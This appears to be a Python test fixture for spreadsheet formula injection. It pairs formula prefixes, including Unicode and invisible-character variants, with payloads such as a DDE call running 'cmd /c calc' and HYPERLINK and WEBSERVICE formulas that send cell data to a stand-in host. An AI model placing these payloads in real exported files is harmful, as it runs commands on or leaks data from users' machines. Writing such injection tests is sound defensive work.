"""Texts that a spreadsheet might run, and numbers that have to stay numbers."""

from __future__ import annotations

from decimal import Decimal
from itertools import product

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n@", "＝", "＋", "－", "＠", "﹦", " =", "\u3000=", "\u00a0-", "\u200b=",
    "\ufeff=", "\u202e=", "\u2066+",
)  # fmt: skip
PAYLOADS = (
    "cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"点我")', "1+1", 'DDE("cmd";"/c calc";"x")', "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")',
)  # fmt: skip
HARMLESS = (
    "'", "'=1+1", "''", '"', '""=1', 'a";=1+1;"', "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", "一行\r\n=1+1", "-", "——",
    "−5", "1=1", "第一人民医院", "\u202eabc", "<script>alert(1)</script>", "#REF!", "#N/A", "TRUE", "2023-01-01", "1e5",
)  # fmt: skip
ACTIVE = tuple(start + payload for start, payload in product(STARTS, PAYLOADS))
TEXTS = (*ACTIVE, *HARMLESS)
NUMBERS = tuple(map(Decimal, ("0", "-5", "-0.10", "12.50", "4068.2080", "864786", "123456789012.34", "-18.50")))
